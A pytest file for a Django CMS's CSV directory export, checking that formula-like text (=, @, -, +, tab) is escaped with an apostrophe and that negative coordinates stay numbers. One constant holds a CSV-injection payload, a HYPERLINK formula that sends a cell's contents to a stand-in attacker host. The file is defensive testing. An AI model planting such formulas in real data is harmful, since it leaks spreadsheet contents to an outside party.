"""The directory's CSV export holds people's text as text: what starts like a formula gets
an apostrophe, numbers (negative ones too) are written as they are."""

import csv
import io

import pytest
from django.core.management import call_command

from cms.exchange.writer import DirectoryWriter

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://attacker.invalid/?q="&B6,"Kliknij")'


def exported(kind: str) -> list[dict]:
    out = io.StringIO()
    call_command("export_directory", "-", "--csv", kind, stdout=out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.fixture
def hostile_records(small_directory):
    writer = DirectoryWriter()
    writer.write(
        "partner",
        {
            "slug": "firma-formula",
            "name": "@SUM(1+1)",
            "sector": "-logistyka",
            "phone": "+27 21 000 0000",
            "location": {"lat": -33.92, "lon": 18.42},
        },
    )
    writer.write(
        "need",
        {"slug": "potrzeba-formula", "partner": "firma-formula", "title": ATTACK}
        | {"quantity": "\t=1+1"},
    )


def test_need_titled_like_a_formula_is_exported_with_an_apostrophe(hostile_records):
    need = next(row for row in exported("need") if row["slug"] == "potrzeba-formula")
    assert need["title"] == f"'{ATTACK}"
    assert need["quantity"] == "'\t=1+1"
    ordinary = next(row for row in exported("need") if row["slug"] == "fartuchy-2000")
    assert not ordinary["title"].startswith("'")


def test_company_text_is_neutralised_and_its_negative_coordinates_stay_numbers(hostile_records):
    partner = next(row for row in exported("partner") if row["slug"] == "firma-formula")
    assert (partner["name"], partner["sector"], partner["phone"]) == (
        "'@SUM(1+1)",
        "'-logistyka",
        "'+27 21 000 0000",
    )
    assert (partner["lat"], partner["lon"]) == ("-33.92", "18.42")
